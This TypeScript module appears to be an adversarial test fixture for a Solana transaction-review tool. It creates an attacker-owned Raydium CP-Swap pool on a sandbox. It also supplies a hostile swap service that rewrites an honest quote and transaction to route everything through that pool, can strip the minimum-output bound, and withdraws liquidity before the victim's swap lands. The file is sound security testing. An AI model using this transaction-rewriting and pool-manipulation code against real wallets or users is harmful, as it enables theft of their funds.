/**
 * A Raydium CP-Swap pool the attacker owns (issue 21, class 2): created on the sandbox with the
 * real program's `initialize` (1% fee tier, SOL/USDC, priced as the attacker likes), and a way to
 * point a CP-Swap swap instruction at it. Anyone can do this on mainnet; the quote then routes
 * through it with amounts and a bound that agree with the pool, so no chain rule sees a lie. Or
 * the pool is fair, the bound stripped, and the attacker pulls its liquidity before the swap
 * lands (`withdrawInstruction`).
 */
import {
  ComputeBudgetProgram,
  Connection,
  Keypair,
  PublicKey,
  SystemProgram,
  TransactionInstruction,
} from '@solana/web3.js';
import { createHash } from 'node:crypto';
import {
  getAssociatedTokenAddressSync,
  TOKEN_2022_PROGRAM_ID,
  TOKEN_PROGRAM_ID,
} from '@solana/spl-token';
import {
  FEE_TIERS,
  feeTierConfigAddress,
  type FeeTier,
} from '../../main/sandbox/cp-swap/fee-tiers';
import {
  CP_SWAP_AUTHORITY,
  initializeInstruction,
  mintsInOrder,
  poolAddresses,
} from '../../main/sandbox/cp-swap/program';
import { AMM_V4_PROGRAM, CLMM_PROGRAM } from '../../main/review/program-ids';
import { CLOCK_JOURNAL_SLOTS } from '../../main/sandbox/ledger/chain-time';
import { balanceOf, CP_SWAP } from './front-run';
import { rewriteSwap, type HostileCase, type Json } from './hostile-swap-service';

const SOL = 'So11111111111111111111111111111111111111112';
const USDC = 'EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v';
/** The 1% tier by default: no SOL/USDC or SOL/USDT pool of the sandbox's own uses it. */
const DEFAULT_TIER: FeeTier = '1%';
/** The programs an honest route's legs run on: CP-Swap, CLMM and AMM v4. */
const VENUE_PROGRAMS = [CP_SWAP, CLMM_PROGRAM, AMM_V4_PROGRAM];

export interface AttackerPool {
  pool: string;
  /** Its trade fee, parts per million (its tier's). */
  tradeFeePpm: bigint;
  /** The token SOL is priced in (USDC unless asked otherwise). */
  quoteMint: string;
  lpMint: string;
  mint0: string;
  mint1: string;
  vault0: string;
  vault1: string;
  config: string;
  vaultSol: string;
  vaultQuote: string;
  observation: string;
  /**
   * Points a CP-Swap swap_base_input at this pool as SOL → quote, with its amounts; its input
   * and output are the payer's associated accounts of SOL and the quote token (the first hop of a longer honest route
   * becomes the whole route).
   */
  retarget(ix: TransactionInstruction, amountIn: bigint, minimumOut: bigint): void;
}

export async function createAttackerPool(
  connection: Connection,
  attacker: Keypair,
  send: (instructions: TransactionInstruction[], signers: Keypair[]) => Promise<void>,
  amounts: { solAmount: bigint; quoteAmount: bigint },
  fund?: (mint: string, amount: bigint) => Promise<void>,
  quoteMint: string = USDC,
  /** Another tier where the sandbox has a SOL pool of `quoteMint` at 1% already (RAY/SOL). */
  feeTier: FeeTier = DEFAULT_TIER,
): Promise<AttackerPool> {
  await fund?.(SOL, amounts.solAmount);
  await fund?.(quoteMint, amounts.quoteAmount);
  const config = feeTierConfigAddress(feeTier);
  const solFirst = mintsInOrder(SOL, quoteMint);
  const [mint0, mint1] = solFirst ? [SOL, quoteMint] : [quoteMint, SOL];
  const owner = attacker.publicKey;
  const ata = (mint: string) =>
    getAssociatedTokenAddressSync(new PublicKey(mint), owner, true).toBase58();
  const addresses = poolAddresses(config, mint0, mint1);
  await send(
    [
      ComputeBudgetProgram.setComputeUnitLimit({ units: 600_000 }),
      initializeInstruction({
        creator: owner.toBase58(),
        config,
        mint0,
        mint1,
        program0: TOKEN_PROGRAM_ID.toBase58(),
        program1: TOKEN_PROGRAM_ID.toBase58(),
        creatorToken0: ata(mint0),
        creatorToken1: ata(mint1),
        amount0: solFirst ? amounts.solAmount : amounts.quoteAmount,
        amount1: solFirst ? amounts.quoteAmount : amounts.solAmount,
        openTime: 0n,
      }),
    ],
    [attacker],
  );
  // A pool opens a second after the VM's clock at its making (max(open_time, now + 1)); the
  // sandbox refreshes the VM's unix time every CLOCK_JOURNAL_SLOTS slots, on a transaction:
  // wait until that many slots and more than a second have passed, then send one.
  await clockPast(connection, await connection.getSlot('processed'), Date.now() + 1_100);
  await send(
    [SystemProgram.transfer({ fromPubkey: owner, toPubkey: owner, lamports: 1 })],
    [attacker],
  );
  const vaultSol = solFirst ? addresses.vault0 : addresses.vault1;
  const vaultQuote = solFirst ? addresses.vault1 : addresses.vault0;
  return {
    pool: addresses.pool,
    tradeFeePpm: FEE_TIERS[feeTier].tradeFeeRate,
    quoteMint,
    lpMint: addresses.lpMint,
    vault0: addresses.vault0,
    vault1: addresses.vault1,
    mint0,
    mint1,
    config,
    vaultSol,
    vaultQuote,
    observation: addresses.observation,
    retarget(ix, amountIn, minimumOut) {
      const set = (index: number, address: string) => {
        const meta = ix.keys[index];
        if (meta) ix.keys[index] = { ...meta, pubkey: new PublicKey(address) };
      };
      set(2, config);
      set(3, addresses.pool);
      const payer = ix.keys[0]?.pubkey;
      // Both sides: the honest route's first CP-Swap leg may be a later hop (SOL → USDC on
      // CLMM, then USDC → USDT on CP-Swap), its input another token's account.
      if (payer) {
        set(4, getAssociatedTokenAddressSync(new PublicKey(SOL), payer, true).toBase58());
        set(5, getAssociatedTokenAddressSync(new PublicKey(quoteMint), payer, true).toBase58());
      }
      set(6, vaultSol);
      set(7, vaultQuote);
      set(8, TOKEN_PROGRAM_ID.toBase58());
      set(9, TOKEN_PROGRAM_ID.toBase58());
      set(10, SOL);
      set(11, quoteMint);
      set(12, addresses.observation);
      const data = Buffer.from(ix.data);
      data.writeBigUInt64LE(amountIn, 8);
      data.writeBigUInt64LE(minimumOut, 16);
      ix.data = data;
    },
  };
}

/**
 * Waits until the chain is CLOCK_JOURNAL_SLOTS slots past `slot` (the next transaction then
 * gives the VM the real unix time) and the wall clock past `notBefore` (ms since the epoch).
 */
async function clockPast(connection: Connection, slot: number, notBefore: number): Promise<void> {
  const deadline = Date.now() + 60_000;
  while (
    (await connection.getSlot('processed')) < slot + CLOCK_JOURNAL_SLOTS ||
    Date.now() < notBefore
  ) {
    if (Date.now() > deadline) throw new Error('the sandbox slots stopped advancing');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** What the pool pays for `amountIn` lamports now (constant product, its tier's trade fee). */
export async function poolOutput(
  connection: Connection,
  pool: AttackerPool,
  amountIn: bigint,
): Promise<bigint> {
  const reserveIn = await balanceOf(connection, new PublicKey(pool.vaultSol));
  const reserveOut = await balanceOf(connection, new PublicKey(pool.vaultQuote));
  const fee = (amountIn * pool.tradeFeePpm + 999_999n) / 1_000_000n;
  const lessFee = amountIn - fee;
  return (lessFee * reserveOut) / (reserveIn + lessFee);
}

/**
 * The hostile case that routes a SOL → quote swap of `amount` through `pool`: the quote names
 * the pool with what it pays now and `impact` as its price impact, its bound `minimumBps` of
 * that (10,000 − slippage, or 0: stripped); the venue is asked for the honest quote it priced,
 * and its transaction is pointed at the pool.
 */
export function routeThrough(
  connection: Connection,
  pool: AttackerPool,
  amount: bigint,
  options: { impact: string; minimumBps: bigint; onChainMinimum?: bigint },
): HostileCase {
  let original: Json | null = null;
  let quoted = 0n;
  return {
    quote: async (answer) => {
      original = answer;
      quoted = await poolOutput(connection, pool, amount);
      const min = (quoted * 9_900n) / 10_000n;
      return {
        ...answer,
        outAmount: quoted.toString(),
        otherAmountThreshold: min.toString(),
        priceImpactPct: options.impact,
        routePlan: [
          {
            swapInfo: {
              ammKey: pool.pool,
              label: 'Raydium CPMM',
              inputMint: SOL,
              outputMint: pool.quoteMint,
              inAmount: amount.toString(),
              outAmount: quoted.toString(),
            },
            percent: 100,
            bps: 10_000,
          },
        ],
      };
    },
    buildRequest: (body) => ({ ...body, quoteResponse: original }),
    swap: (answer, ctx) =>
      rewriteSwap(answer, ctx, (opened) => {
        const [first] = opened.instructions.filter((ix) => ix.programId.toBase58() === CP_SWAP);
        if (!first) throw new Error('no CP-Swap swap');
        // Every leg of the honest route goes, whatever its venue: the attacker's pool is the
        // whole route.
        const swaps = opened.instructions.filter((ix) =>
          VENUE_PROGRAMS.includes(ix.programId.toBase58()),
        );
        // The honest route's other hops go, and so does the account it opened for a middle
        // token (SOL → USDC → FRZ): the attacker's route is one hop.
        const ATA = 'ATokenGPvbdGVxr1b2hvZbsiqW5xWH25efTNsLJA8knL';
        const middle = (ix: TransactionInstruction) =>
          ix.programId.toBase58() === ATA &&
          ![SOL, pool.quoteMint].includes(ix.keys[3]?.pubkey.toBase58() ?? '');
        opened.instructions = opened.instructions.filter(
          (ix) => ix === first || (!swaps.includes(ix) && !middle(ix)),
        );
        pool.retarget(first, amount, (quoted * options.minimumBps) / 10_000n);
      }),
  };
}

/** CP-Swap `withdraw(lp_token_amount, minimum_token_0_amount, minimum_token_1_amount)`. */
export function withdrawInstruction(
  pool: AttackerPool,
  owner: PublicKey,
  lpAmount: bigint,
): TransactionInstruction {
  const data = Buffer.alloc(32);
  createHash('sha256').update('global:withdraw').digest().copy(data, 0, 0, 8);
  data.writeBigUInt64LE(lpAmount, 8);
  const ata = (mint: string) =>
    getAssociatedTokenAddressSync(new PublicKey(mint), owner, true).toBase58();
  const keys: [string, boolean, boolean][] = [
    [owner.toBase58(), true, false],
    [CP_SWAP_AUTHORITY, false, false],
    [pool.pool, false, true],
    [ata(pool.lpMint), false, true],
    [ata(pool.mint0), false, true],
    [ata(pool.mint1), false, true],
    [pool.vault0, false, true],
    [pool.vault1, false, true],
    [TOKEN_PROGRAM_ID.toBase58(), false, false],
    [TOKEN_2022_PROGRAM_ID.toBase58(), false, false],
    [pool.mint0, false, false],
    [pool.mint1, false, false],
    [pool.lpMint, false, true],
    ['MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr', false, false],
  ];
  return new TransactionInstruction({
    programId: new PublicKey(CP_SWAP),
    keys: keys.map(([key, isSigner, isWritable]) => ({
      pubkey: new PublicKey(key),
      isSigner,
      isWritable,
    })),
    data,
  });
}
